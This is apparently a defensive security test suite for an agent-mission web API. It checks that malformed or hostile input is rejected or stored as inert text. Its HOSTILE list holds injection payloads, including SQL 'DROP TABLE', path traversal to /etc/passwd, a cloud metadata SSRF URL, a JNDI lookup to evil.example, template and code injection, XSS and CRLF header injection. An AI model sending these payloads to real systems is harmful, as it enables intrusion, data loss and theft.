"""Bad input is refused with the right code, changes no row, and is never our fault."""

from collections.abc import Iterator
from typing import Any

import pytest
from sqlalchemy import Connection, text

from tests.api.server import Server, problem
from tests.contract import given as the
from tests.contract.given import SPEC
from tests.security.bad_inputs import Bad, table

TABLE = table()
HOSTILE = [
    "'; DROP TABLE missions; --",
    '" OR "1"="1',
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "__import__('os').system('true')",
    "<script>alert(1)</script>",
    "\N{RIGHT-TO-LEFT OVERRIDE}txt.exe",
    "\x1b[2J\x1b]0;owned\x07",
    "a\x00b",
    "%s%n%x",
    "\r\nSet-Cookie: a=b",
]


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """One of everything, each with the number 1; open, so that no use of a token is noted."""
    with Server(tmp_path_factory.mktemp("bad")) as running:
        claimed = the.running(running.db)
        the.ask(running.db, claimed)
        running.store_file(claimed.mission_id, "notes.md", b"Notes")
        running.store_delivery(claimed.mission_id)
        yield running


@pytest.fixture(scope="module")
def watching(server: Server) -> Iterator[Connection]:
    with server.db.reading() as conn:
        yield conn


def version(conn: Connection) -> int:
    """Another number for each commit of anybody else's."""
    return int(conn.execute(text("PRAGMA data_version")).scalar_one())


def test_the_table_is_long_enough():
    assert len(TABLE) >= 300
    assert len({str(bad) for bad in TABLE}) >= 300


@pytest.mark.parametrize("bad", TABLE, ids=str)
def test_bad_input_is_refused_and_changes_nothing(server: Server, watching: Connection, bad: Bad):
    before = version(watching)
    answer = server.request(bad.method, bad.path, data=bad.data, headers=bad.headers)
    problem(answer, bad.status, bad.code)
    assert version(watching) == before


def places(value: Any, at: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Where strings stand in a spec."""
    if isinstance(value, str):
        yield at
    elif isinstance(value, dict):
        for key, item in value.items():
            yield from places(item, (*at, key))
    elif isinstance(value, list):
        for i, item in enumerate(value):
            yield from places(item, (*at, i))


def put(value: Any, at: tuple[Any, ...], hostile: str) -> Any:
    if not at:
        return hostile
    if isinstance(value, dict):
        return value | {at[0]: put(value[at[0]], at[1:], hostile)}
    return [put(item, at[1:], hostile) if i == at[0] else item for i, item in enumerate(value)]


FULL = SPEC | {
    "model": "local",
    "inputs": {"topic": "rain"},
    "engine": "crewai",
    "process": "sequential",
}
FULL["agents"] = [SPEC["agents"][0] | {"tools": ["calculator"], "model": "local"}]
FULL["plan"] = [SPEC["plan"][0] | {"output_file": "out.md", "guardrail": "Be kind."}]


@pytest.mark.parametrize("at", list(places(FULL)), ids=lambda at: "/".join(map(str, at)))
def test_hostile_text_is_text_or_refused_in_every_string_of_a_mission(server: Server, at):
    for hostile in HOSTILE:
        spec = put(FULL, at, hostile)
        answer = server.post("/missions", spec)
        assert answer.status_code in (201, 422), answer.text
        if answer.status_code == 422:
            problem(answer, 422, "invalid")
            continue
        kept: Any = answer.get_json()["spec"]
        for step in at:
            kept = kept[step]
        assert kept == hostile.replace("\0", "\N{REPLACEMENT CHARACTER}")
    assert server.get("/missions/1").status_code == 200  # no table was dropped


@pytest.mark.parametrize("hostile", HOSTILE, ids=ascii)
def test_hostile_text_is_text_in_every_parameter_that_takes_any(server: Server, hostile):
    assert server.get("/missions", {"q": hostile}).status_code == 200
    assert server.get("/missions", {"engine": hostile}).status_code == 200
    assert server.get("/events", {"client": hostile}).status_code == 200


@pytest.mark.parametrize("hostile", HOSTILE, ids=ascii)
def test_hostile_text_is_text_in_an_answer(tmp_path_factory, hostile):
    with Server(tmp_path_factory.mktemp("answer")) as server:
        the.ask(server.db, the.running(server.db))
        answer = server.post("/requests/1", {"answer": hostile})
        assert answer.get_json()["answer"] == hostile.replace("\0", "\N{REPLACEMENT CHARACTER}")
